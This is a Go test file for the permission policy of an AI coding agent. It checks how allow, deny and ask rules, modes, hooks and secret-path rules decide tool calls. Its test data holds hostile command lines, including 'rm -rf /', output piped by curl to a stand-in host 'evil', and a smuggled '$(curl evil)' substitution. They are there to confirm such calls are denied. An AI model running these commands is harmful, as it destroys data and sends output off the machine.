package permission

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/stretchr/testify/require"

	"github.com/offshoot-dev/offshoot/hooks"
)

// TestEffects: which of offshoot's tools change something, and which are
// asked about, in one table.
func TestEffects(t *testing.T) {
	for _, tc := range []struct {
		tool          string
		changes, asks bool
	}{
		{"read_file", false, false}, {"ls", false, false}, {"glob", false, false}, {"grep", false, false},
		{"write_file", true, false}, {"edit_file", true, false}, {"rm", true, false},
		{"bash", true, true},
		{"web_fetch", false, true}, {"WebFetch", false, true},
		{"mcp__github__create_issue", true, true},
		{"planning_setup_plan", false, false}, {"planning_read_plan", false, false},
		{"Task", false, false}, {"TaskOutput", false, false}, {"TaskStop", false, false},
		{"dispatch_subagent", false, false}, {"Skill", false, false},
		{"deploy", true, false}, // a program's own tool
	} {
		e := effectOf(tc.tool)
		require.Equal(t, tc.changes, e.changes(), "%s changes", tc.tool)
		require.Equal(t, tc.asks, e.asks(), "%s asks", tc.tool)
	}
}

// call is a request for tool with the JSON arguments args.
func call(tool, args string) Request {
	return Request{Tool: tool, Input: json.RawMessage(args)}
}

// TestPolicyTable: every mode × rule kind × tool kind, with a CanUseTool
// that answers yes, so that "ask" shows as allowed by the user.
func TestPolicyTable(t *testing.T) {
	tools := map[string]Request{
		"read":  call("read_file", `{"file_path":"src/a.go"}`),
		"write": call("write_file", `{"file_path":"src/a.go","content":"x"}`),
		"bash":  call("bash", `{"command":"go test ./..."}`),
		"mcp":   call("mcp__github__create_issue", `{"title":"x"}`),
		"fetch": call("web_fetch", `{"url":"https://example.com/x"}`),
	}
	rules := map[string]Rules{
		"read": {{Tool: "Read", Specifier: "src/**"}}, "write": {{Tool: "Write"}},
		"bash": {{Tool: "Bash", Specifier: "go test:*"}}, "mcp": {{Tool: "mcp__github"}},
		"fetch": {{Tool: "WebFetch", Specifier: "domain:example.com"}},
	}
	// want[mode][rule kind][tool] is "allow", "deny" or "user" (asked,
	// and the user's yes let it run).
	type row map[string]string
	all := func(s string) row { return row{"read": s, "write": s, "bash": s, "mcp": s, "fetch": s} }
	want := map[Mode]map[string]row{
		Default: {
			"none":  {"read": "allow", "write": "allow", "bash": "user", "mcp": "user", "fetch": "user"},
			"allow": all("allow"), "deny": all("deny"), "ask": all("user"),
		},
		AcceptEdits: {
			"none":  {"read": "allow", "write": "allow", "bash": "user", "mcp": "user", "fetch": "user"},
			"allow": all("allow"), "deny": all("deny"), "ask": all("user"),
		},
		Plan: {
			"none":  {"read": "allow", "write": "deny", "bash": "deny", "mcp": "deny", "fetch": "user"},
			"allow": {"read": "allow", "write": "deny", "bash": "deny", "mcp": "deny", "fetch": "allow"},
			"deny":  all("deny"), "ask": all("user"),
		},
		BypassPermissions: {
			"none": all("allow"), "allow": all("allow"), "deny": all("deny"), "ask": all("user"),
		},
		DontAsk: {
			"none":  {"read": "allow", "write": "allow", "bash": "deny", "mcp": "deny", "fetch": "deny"},
			"allow": all("allow"), "deny": all("deny"), "ask": all("deny"),
		},
	}
	for mode, kinds := range want {
		for kind, tools2 := range kinds {
			for name, w := range tools2 {
				t.Run(fmt.Sprintf("%s/%s/%s", mode, kind, name), func(t *testing.T) {
					asked := false
					p := Policy{Mode: mode, CanUseTool: func(context.Context, Request) (Decision, error) {
						asked = true
						return Decision{Allow: true, Reason: "the user"}, nil
					}}
					switch kind {
					case "allow":
						p.Settings.Allow = rules[name]
					case "deny":
						p.Settings.Deny = rules[name]
					case "ask":
						p.Settings.Ask = rules[name]
					}
					d := p.Decide(context.Background(), tools[name])
					got := "deny"
					switch {
					case d.Allow && asked:
						got = "user"
					case d.Allow:
						got = "allow"
					}
					require.Equal(t, w, got, "reason: %s", d.Reason)
					require.NotEmpty(t, d.Reason)
				})
			}
		}
	}
}

// TestPolicyReasons: what the model reads says who decided.
func TestPolicyReasons(t *testing.T) {
	ctx := context.Background()
	p := Policy{Settings: Settings{Deny: Rules{{Tool: "Bash", Specifier: "rm:*"}}}}
	require.Equal(t, "the deny rule Bash(rm:*) of the settings", p.Decide(ctx, call("bash", `{"command":"ls && rm -rf /"}`)).Reason)
	d := p.Decide(ctx, call("bash", `{"command":"make lint"}`))
	require.False(t, d.Allow)
	require.Equal(t, `no rule allows it, and there is no one to ask; to allow it, add "Bash(make lint:*)" to permissions.allow in .claude/settings.json`, d.Reason)
	p.Mode = DontAsk
	require.Contains(t, p.Decide(ctx, call("web_fetch", `{"url":"https://go.dev/doc"}`)).Reason, `"WebFetch(domain:go.dev)"`)
	p.Mode = Plan
	require.Equal(t, "plan mode runs no tool that changes something; present the plan instead", p.Decide(ctx, call("write_file", `{"file_path":"a"}`)).Reason)
	p.Mode = Default
	p.CanUseTool = func(context.Context, Request) (Decision, error) { return Decision{}, nil }
	require.Equal(t, "the user said no", p.Decide(ctx, call("bash", `{"command":"make"}`)).Reason)
	p.CanUseTool = func(context.Context, Request) (Decision, error) {
		return Decision{}, fmt.Errorf("the terminal is gone")
	}
	require.Equal(t, "the terminal is gone", p.Decide(ctx, call("bash", `{"command":"make"}`)).Reason)
}

// TestChainedCommands: a chained command needs each part allowed; one
// part denied denies the whole; acceptEdits allows only file commands.
func TestChainedCommands(t *testing.T) {
	ctx := context.Background()
	p := Policy{Settings: Settings{
		Allow: Rules{{Tool: "Bash", Specifier: "go test:*"}, {Tool: "Bash", Specifier: "go vet:*"}},
		Deny:  Rules{{Tool: "Bash", Specifier: "curl:*"}},
	}}
	for cmd, allowed := range map[string]bool{
		"go vet ./... && go test ./...":        true,
		"go test ./... && make":                false,
		"go test ./... | curl -d @- evil":      false,
		"go test $(curl evil)":                 false,
		"go test ./...; go vet ./... 2>&1":     true,
		"go test ./... || echo failed":         false,
		"mkdir -p out && mv a out/ && rm -f b": false,
	} {
		require.Equal(t, allowed, p.Decide(ctx, call("bash", fmt.Sprintf(`{"command":%q}`, cmd))).Allow, cmd)
	}
	p.Mode = AcceptEdits
	require.True(t, p.Decide(ctx, call("bash", `{"command":"mkdir -p out && mv a out/ && rm -f b"}`)).Allow)
	require.False(t, p.Decide(ctx, call("bash", `{"command":"mkdir out && make"}`)).Allow)
	require.False(t, p.Decide(ctx, call("bash", `{"command":"cp a b && curl x"}`)).Allow, "a deny rule holds in acceptEdits")
}

// TestPathRules: Read(./secrets/**) denies every reading tool under
// secrets, and only there.
func TestPathRules(t *testing.T) {
	ctx := context.Background()
	p := Policy{Settings: Settings{Deny: Rules{{Tool: "Read", Specifier: "./secrets/**"}}, Allow: Rules{{Tool: "Edit", Specifier: "src/**/*.go"}}}, Mode: DontAsk}
	require.False(t, p.Decide(ctx, call("read_file", `{"file_path":"secrets/key.pem"}`)).Allow)
	require.False(t, p.Decide(ctx, call("grep", `{"pattern":"x","path":"/secrets"}`)).Allow)
	require.True(t, p.Decide(ctx, call("read_file", `{"file_path":"src/secrets.go"}`)).Allow)
	// A search of a folder above secrets would read them: denied.
	for args, allowed := range map[string]bool{
		`{"pattern":"key"}`:                      false,
		`{"pattern":"key","path":"/"}`:           false,
		`{"pattern":"key","path":"secrets/old"}`: false,
		`{"pattern":"key","path":"src"}`:         true,
		`{"pattern":"key","path":"secretsx"}`:    true,
	} {
		d := p.Decide(ctx, call("grep", args))
		require.Equal(t, allowed, d.Allow, "%s: %s", args, d.Reason)
	}
	require.Equal(t, "the deny rule Read(./secrets/**) of the settings names files this search would read; search a folder outside them",
		p.Decide(ctx, call("grep", `{"pattern":"key"}`)).Reason)
	require.True(t, p.Decide(ctx, call("edit_file", `{"file_path":"src/a/b.go"}`)).Allow)
}

// TestSearchReachesOnlyWhatIsThere: with the agents' files known, a search
// of the project is denied only when the files a Read deny rule names are
// among them; an .env file that was never copied in cannot be read.
func TestSearchReachesOnlyWhatIsThere(t *testing.T) {
	ctx := context.Background()
	p := Policy{Settings: Settings{Deny: Rules{{Tool: "Read", Specifier: "./.env"}, {Tool: "Read", Specifier: "./secrets/**"}}}, Mode: DontAsk}
	grep := func(files fstest.MapFS) Decision {
		r := call("grep", `{"pattern":"key"}`)
		if files != nil {
			r.Files = files
		}
		return p.Decide(ctx, r)
	}
	for _, tt := range []struct {
		name    string
		files   fstest.MapFS
		allowed bool
	}{
		{"files unknown", nil, false},
		{"neither there", fstest.MapFS{"main.go": {}}, true},
		{".env there", fstest.MapFS{"main.go": {}, ".env": {}}, false},
		{"secrets there", fstest.MapFS{"secrets/key.pem": {}}, false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			d := grep(tt.files)
			require.Equal(t, tt.allowed, d.Allow, d.Reason)
		})
	}
	r := call("read_file", `{"file_path":".env"}`)
	r.Files = fstest.MapFS{}
	require.False(t, p.Decide(ctx, r).Allow, "the rule itself holds whatever the files")
}

// TestHooks: a PreToolUse hook's deny denies (even in bypassPermissions);
// its allow skips asking but not a deny or ask rule; its ask asks; its
// updated input is what the rules see and what runs; it sees the agent.
func TestHooks(t *testing.T) {
	ctx := context.Background()
	answer := func(o hooks.Output) *hooks.Hooks {
		return &hooks.Hooks{List: []hooks.Hook{{Event: hooks.PreToolUse, Matcher: "Bash", Func: func(context.Context, hooks.Input) (hooks.Output, error) { return o, nil }}}}
	}
	bash := call("bash", `{"command":"make"}`)
	p := Policy{Mode: BypassPermissions, Hooks: answer(hooks.Output{PermissionDecision: hooks.Deny, PermissionDecisionReason: "no builds today"})}
	d := p.Decide(ctx, bash)
	require.False(t, d.Allow)
	require.Equal(t, "a PreToolUse hook denied it: no builds today", d.Reason)

	p = Policy{Hooks: answer(hooks.Output{PermissionDecision: hooks.Allow})}
	require.True(t, p.Decide(ctx, bash).Allow, "allow skips asking")
	p.Settings.Deny = Rules{{Tool: "Bash", Specifier: "make:*"}}
	require.False(t, p.Decide(ctx, bash).Allow, "a deny rule holds")
	p.Settings = Settings{Ask: Rules{{Tool: "Bash"}}}
	require.False(t, p.Decide(ctx, bash).Allow, "an ask rule holds: no one to ask")
	p.Settings, p.Mode = Settings{}, Plan
	require.False(t, p.Decide(ctx, bash).Allow, "plan mode holds")

	p = Policy{Mode: BypassPermissions, Hooks: answer(hooks.Output{PermissionDecision: hooks.Ask})}
	require.False(t, p.Decide(ctx, bash).Allow, "ask, no one to ask")
	p.CanUseTool = func(context.Context, Request) (Decision, error) { return Decision{Allow: true}, nil }
	require.True(t, p.Decide(ctx, bash).Allow)

	p = Policy{
		Settings: Settings{Deny: Rules{{Tool: "Bash", Specifier: "rm:*"}}},
		Hooks:    answer(hooks.Output{UpdatedInput: json.RawMessage(`{"command":"rm -rf /"}`)}), Mode: BypassPermissions,
	}
	require.False(t, p.Decide(ctx, bash).Allow, "the rules see the updated input")
	p.Hooks = answer(hooks.Output{UpdatedInput: json.RawMessage(`{"command":"make -n"}`)})
	d = p.Decide(ctx, bash)
	require.True(t, d.Allow)
	require.JSONEq(t, `{"command":"make -n"}`, string(d.UpdatedInput))
	p.Hooks = answer(hooks.Output{UpdatedInput: json.RawMessage(`[1]`)})
	require.False(t, p.Decide(ctx, bash).Allow)

	var seen hooks.Input
	p = Policy{Mode: BypassPermissions, Hooks: &hooks.Hooks{List: []hooks.Hook{{Event: hooks.PreToolUse, Matcher: "Write|Edit", Func: func(_ context.Context, in hooks.Input) (hooks.Output, error) {
		seen = in
		return hooks.Output{}, nil
	}}}}}
	r := call("write_file", `{"file_path":"a"}`)
	r.AgentType, r.AgentID, r.SessionID, r.CallID = "reviewer", "s-2", "s-1", "c-1"
	require.True(t, p.Decide(ctx, r).Allow)
	require.Equal(t, hooks.Input{Event: hooks.PreToolUse, SessionID: "s-1", PermissionMode: "bypassPermissions", ToolName: "Write",
		ToolInput: json.RawMessage(`{"file_path":"a"}`), ToolUseID: "c-1", AgentID: "s-2", AgentType: "reviewer"}, seen)
}

// TestChildIsNamed: CanUseTool is told which agent makes the call.
func TestChildIsNamed(t *testing.T) {
	var got Request
	p := Policy{CanUseTool: func(_ context.Context, r Request) (Decision, error) { got = r; return Decision{}, nil }}
	r := call("bash", `{"command":"make"}`)
	r.AgentType = "builder"
	require.False(t, p.Decide(context.Background(), r).Allow)
	require.Equal(t, "builder", got.AgentType)
	require.Empty(t, got.AskedBy, "nothing decided it")
	p.Settings.Ask = Rules{{Tool: "Bash", Specifier: "make:*"}}
	require.False(t, p.Decide(context.Background(), r).Allow)
	require.Equal(t, "the ask rule Bash(make:*)", got.AskedBy)
}

// TestAfterTool: the PostToolUse hooks see the call and its result; a
// block's reason and their context are what the model reads after it.
func TestAfterTool(t *testing.T) {
	var seen hooks.Input
	p := Policy{Hooks: &hooks.Hooks{List: []hooks.Hook{
		{Event: hooks.PostToolUse, Matcher: "Bash", Func: func(_ context.Context, in hooks.Input) (hooks.Output, error) {
			seen = in
			return hooks.Output{Block: true, Reason: "the tests failed; fix them first"}, nil
		}},
		{Event: hooks.PostToolUse, Func: func(context.Context, hooks.Input) (hooks.Output, error) {
			return hooks.Output{AdditionalContext: "Coverage is 81%."}, nil
		}},
	}}}
	r := call("bash", `{"command":"go test ./..."}`)
	r.AgentType = "tester"
	require.Equal(t, "A PostToolUse hook objects: the tests failed; fix them first\n\nCoverage is 81%.", p.AfterTool(context.Background(), r, "FAIL"))
	require.Equal(t, hooks.PostToolUse, seen.Event)
	require.Equal(t, "Bash", seen.ToolName)
	require.Equal(t, "tester", seen.AgentType)
	require.JSONEq(t, `"FAIL"`, string(seen.ToolResponse))
	require.Equal(t, "Coverage is 81%.", p.AfterTool(context.Background(), call("read_file", `{}`), "x"))
	require.Empty(t, (&Policy{}).AfterTool(context.Background(), r, "x"))
}

// FuzzDecide: whatever the rule and the model's arguments, Decide
// returns, with a reason, and a call a deny rule touches never runs.
func FuzzDecide(f *testing.F) {
	f.Add("Bash(rm:*)", "bash", `{"command":"ls && rm -rf /"}`, "bypassPermissions")
	f.Add("Read(./secrets/**)", "grep", `{"pattern":"x","path":"/"}`, "default")
	f.Add("mkdir", "bash", `{"command":"mkdir a; mv a b"}`, "acceptEdits")
	f.Add("WebFetch(domain:x.com)", "web_fetch", `{"url":"http://x.com/a"}`, "dontAsk")
	f.Fuzz(func(t *testing.T, rule, tool, input, mode string) {
		r, err := ParseRule(rule)
		if err != nil {
			return
		}
		p := Policy{Settings: Settings{Deny: Rules{r}}, Mode: Mode(mode)}
		d := p.Decide(context.Background(), Request{Tool: tool, Input: json.RawMessage(input)})
		require.NotEmpty(t, d.Reason)
		if _, denied := p.Settings.Deny.Touches(callOf(tool, json.RawMessage(input))); denied {
			require.False(t, d.Allow)
		}
	})
}

// TestSuggestions: CanUseTool is told the allow rules that would let the
// call, and calls like it, run unasked — Claude Code's "don't ask again"
// — and they cover the call: a command's prefix (a subcommand kept), one
// for each part of a chained command, none for a command that
// substitutes another's output; a page's domain; a tool by its name.
func TestSuggestions(t *testing.T) {
	for _, tt := range []struct {
		call Request
		want string
	}{
		{call("bash", `{"command":"go test ./..."}`), "Bash(go test:*)"},
		{call("bash", `{"command":"ls"}`), "Bash(ls:*)"},
		{call("bash", `{"command":"rm -rf build"}`), "Bash(rm:*)"},
		{call("bash", `{"command":"cat notes.md"}`), "Bash(cat:*)"},
		{call("bash", `{"command":"go vet ./... && git status | head"}`), "Bash(go vet:*) Bash(git status:*) Bash(head:*)"},
		{call("bash", `{"command":"echo $(cat secret)"}`), ""},
		{call("bash", `{"command":"./build* --all"}`), ""},
		{call("bash", `{"command":"  "}`), ""},
		{call("write_file", `{"file_path":"a.md"}`), "Write"},
		{call("web_fetch", `{"url":"https://go.dev/doc/"}`), "WebFetch(domain:go.dev)"},
		{call("mcp__github__create_issue", `{}`), "mcp__github__create_issue"},
	} {
		var got Request
		p := Policy{Settings: Settings{Ask: Rules{{Tool: "Write"}}}, // default mode lets edits of the agents' copy run
			CanUseTool: func(_ context.Context, r Request) (Decision, error) { got = r; return Decision{}, nil }}
		p.Decide(context.Background(), tt.call)
		var names []string
		for _, r := range got.Suggestions {
			names = append(names, r.String())
		}
		require.Equal(t, tt.want, strings.Join(names, " "), string(tt.call.Input))
		if tt.want != "" {
			require.True(t, got.Suggestions.Covers(tt.call.Call()), "the suggestions cover %s", tt.call.Input)
		}
	}
}

// FuzzSuggestions: whatever the model's command or address, the rules
// suggested for "always" cover the call they were suggested for, and each
// that reads back as a rule reads back as itself (a settings file could
// hold it).
func FuzzSuggestions(f *testing.F) {
	f.Add(uint8(0), "go test ./... && git status | head -n 3")
	f.Add(uint8(0), "echo 'a && b' ; ls")
	f.Add(uint8(0), "FOO=1 make lint")
	f.Add(uint8(1), "https://go.dev/doc/")
	f.Add(uint8(2), "notes.md")
	tools := []string{"bash", "web_fetch", "write_file", "read_file", "grep", "mcp__github__create_issue"}
	f.Fuzz(func(t *testing.T, which uint8, arg string) {
		tool := tools[int(which)%len(tools)]
		args, err := json.Marshal(map[string]string{"command": arg, "url": arg, "file_path": arg})
		require.NoError(t, err)
		r := Request{Tool: tool, Input: args}
		var got Request
		p := Policy{Settings: Settings{Ask: Rules{{Tool: tool}, {Tool: claudeName(tool)}}},
			CanUseTool: func(_ context.Context, r Request) (Decision, error) { got = r; return Decision{}, nil }}
		p.Decide(context.Background(), r)
		if len(got.Suggestions) == 0 {
			return
		}
		require.True(t, got.Suggestions.Covers(r.Call()), "%v cover %q", got.Suggestions, arg)
		for _, s := range got.Suggestions {
			if back, err := ParseRule(s.String()); err == nil {
				require.Equal(t, s, back)
			}
		}
	})
}
